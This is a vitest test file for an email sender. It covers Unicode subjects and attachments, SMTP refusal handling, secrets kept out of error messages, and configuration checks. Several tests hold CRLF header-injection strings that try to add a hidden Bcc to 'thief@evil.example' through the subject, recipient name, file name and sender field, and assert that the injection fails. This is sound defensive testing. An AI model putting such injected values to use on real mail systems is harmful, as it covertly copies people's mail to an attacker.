import { test as base, expect } from 'vitest'
import { readEnvironment } from '#server/environment.ts'
import { serializeError } from '#server/kernel/base/error-serializer.ts'
import type { MailError } from '#server/kernel/mail/mail-error.ts'
import { type Mail, mailerAt } from '#server/kernel/mail/mailer.ts'
import { type MailServer, mailPassword, mailServer } from '#tests/support/mail-server.ts'

const from = 'Reports <reports@lender.example>'
const mail: Mail = {
  id: 'RR1',
  to: { name: 'Meera Iyer', address: 'meera@lender.example' },
  subject: 'Report: நாள் 2026-03-11',
  text: 'Rows: 2',
  attachment: { name: 'நாள் 2026-03-11.csv', type: 'text/csv', bytes: Buffer.from('id\r\nLN1\r\n.\r\n') },
}

const test = base.extend<{ post: MailServer }>({ post: mailServer })

const failing = (url: string, letter: Mail = mail): Promise<MailError> =>
  mailerAt({ url, from })
    .send(letter)
    .then(
      () => expect.fail('it was sent'),
      (error) => error,
    )

test('mail arrives as it was sent, in any script, and nothing answers it', async ({ post }) => {
  await mailerAt({ url: post.url, from }).send(mail)

  const [{ for: recipients, mail: arrived }] = post.taken as [MailServer['taken'][number]]
  expect(recipients).toEqual(['meera@lender.example'])
  expect(arrived).toMatchObject({
    from: { name: 'Reports', address: 'reports@lender.example' },
    to: [{ name: 'Meera Iyer', address: 'meera@lender.example' }],
    subject: mail.subject,
    messageId: '<RR1@lender.example>',
    attachments: [{ filename: mail.attachment?.name, mimeType: 'text/csv' }],
  })
  expect(arrived.text?.trim()).toBe(mail.text)
  expect(Buffer.from(arrived.attachments[0]!.content as ArrayBuffer)).toEqual(mail.attachment?.bytes)
  expect(arrived.headers).toContainEqual(expect.objectContaining({ key: 'auto-submitted', value: 'auto-generated' }))
})

test('no header is written by what stands in a subject, a name or the name of a file', async ({ post }) => {
  const smuggled = 'A\r\nBcc: thief@evil.example\r\n\r\nnothing'
  const attachment = { ...mail.attachment!, name: `${smuggled}.csv` }

  await mailerAt({ url: post.url, from }).send({
    ...{ ...mail, subject: smuggled, attachment },
    to: { name: `${smuggled}" <thief@evil.example>`, address: mail.to.address },
  })

  const [{ for: recipients, mail: arrived }] = post.taken as [MailServer['taken'][number]]
  expect(recipients).toEqual(['meera@lender.example'])
  expect(arrived.bcc ?? []).toEqual([])
  expect(arrived.headers.map(({ key }) => key)).not.toContain('bcc')
  expect(arrived.subject).toBe('A Bcc: thief@evil.example nothing')
  expect(arrived.to?.map(({ address }) => address)).toEqual(['meera@lender.example'])
  expect(arrived.text?.trim()).toBe('Rows: 2')
})

const unknown = { code: 550, text: 'No meera@lender.example here' }
test.for([
  ['a recipient for good', { recipient: unknown }, 'refused', /550 No meera@lender.example here/],
  ['a recipient for now', { recipient: { code: 450, text: 'Greylisted' } }, 'failed', /450 Greylisted/],
  ['a message for good', { message: { code: 554, text: 'Looks like spam' } }, 'refused', /554 Looks like spam/],
  ['a message for now', { message: { code: 452, text: 'Full' } }, 'failed', /452 Full/],
  ['nothing, and breaks off before the message', { breaksAt: 'recipient' }, 'failed', /ECONN|closed/],
  ['nothing, and breaks off after it', { breaksAt: 'message' }, 'unclear', /ECONN|closed/],
  ['nothing, and breaks off amid its thanks', { breaksAt: 'message', lastWords: '250 OK: q' }, 'unclear', /ECONN/],
  ['nothing, and says what is no answer', { breaksAt: 'message', lastWords: '354 Go on\r\n' }, 'unclear', /354 Go on/],
] as const)('a server that refuses %s', async ([, ailment, outcome, answer], { post }) => {
  post.ail(ailment)

  const error = await failing(post.url)

  expect(error).toMatchObject({ outcome, answer: expect.stringMatching(answer) })
  expect(JSON.stringify(serializeError(error))).not.toMatch(/meera|here|spam/)
})

test('a server that is not there has not taken anything', async ({ post }) => {
  await post.down()
  await expect(failing(post.url)).resolves.toMatchObject({ outcome: 'failed', answer: 'ECONNREFUSED' })
})

test('a wrong password is told without it, and without the account', async ({ post }) => {
  const error = await failing(post.url.replace(encodeURIComponent(mailPassword), 'another'))

  expect(error).toMatchObject({ outcome: 'failed', answer: expect.stringContaining('535') })
  expect(`${error.answer} ${JSON.stringify(serializeError(error))}`).not.toMatch(/reports|another|secret/)
})

test('nothing goes in the clear to another machine, not even a password', async ({ post }) => {
  // leads here, and is not known to
  const error = await failing(post.url.replace('127.0.0.1', '0.0.0.0'))

  expect(error.outcome).toBe('failed')
  expect(post.begun()).toBe(0)
})

test.for([
  ['mail.lender.example', from],
  ['https://user:secret@lender.example', from],
  ['smtp://user:secret@:x', from],
  ['smtp://user:secret@lender.example', 'Reports'],
  ['smtp://user:secret@lender.example', 'a@b.example\r\nBcc: thief@evil.example'],
] as const)('settings that are none are told at the start, without the password: %s from %s', ([url, sender]) => {
  const start = () => mailerAt({ url, from: sender })

  expect(start).toThrow(/^MAIL_(URL|FROM) is /)
  expect(start).not.toThrow(/secret/)
})

test('an environment with half of the settings is told at the start as well; with neither there is no mail', () => {
  const read = (given: object) => readEnvironment({ LENDLINE_SECRET: 'secret of the tests', ...given })
  const url = 'smtp://user:secret@lender.example'

  expect(() => read({ MAIL_URL: url })).toThrow('MAIL_FROM is missing')
  expect(() => read({ MAIL_FROM: from })).toThrow('MAIL_URL is missing')
  expect(read({ MAIL_URL: url, MAIL_FROM: from }).mail).toEqual({ url, from })
  expect(read({}).mail).toBeUndefined()
})
